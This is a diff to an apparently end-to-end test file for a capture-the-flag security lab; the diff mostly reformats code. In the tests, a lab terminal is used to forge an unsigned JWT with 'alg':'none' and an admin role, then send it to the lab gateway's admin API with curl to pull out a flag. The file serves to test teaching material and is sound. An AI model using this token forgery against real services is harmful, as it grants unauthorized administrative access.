@@ -58,7 +58,9 @@ test('the sign-in link leads to the course, the lesson to the lab, and the lab o
 
 test('a token forged in the terminal reads the admin page, and its flag is accepted', async () => {
   await lab.readAloud();
-  await lab.type(`FORGED="$(printf '{"alg":"none"}' | b64url).$(printf '{"sub":"me","role":"admin"}' | b64url)."; echo "$FORGED"`);
+  await lab.type(
+    `FORGED="$(printf '{"alg":"none"}' | b64url).$(printf '{"sub":"me","role":"admin"}' | b64url)."; echo "$FORGED"`,
+  );
   await untilText(lab.screen, /^eyJ\S+\.$/m);
   await lab.type('curl -s http://gateway:8080/api/admin -H "authorization: Bearer $FORGED" | grep -o "flag{[^}]*}"');
   const [flag = ''] = await untilText(lab.screen, /flag\{[\w-]{8,}\}/);
@@ -100,7 +102,7 @@ test('the replay of the evidence, copied into the terminal, gets in there too', 
     .verdict(FIX)
     .getByRole('button', { name: `Copy the replay of ${FIX}` })
     .click();
-  await lab.type(await page.evaluate(() => navigator.clipboard.readText()));
+  await lab.type(String(await page.evaluate('navigator.clipboard.readText()')));
   await untilText(lab.screen, /HTTP\/1\.1 200|flag\{/);
 });
 
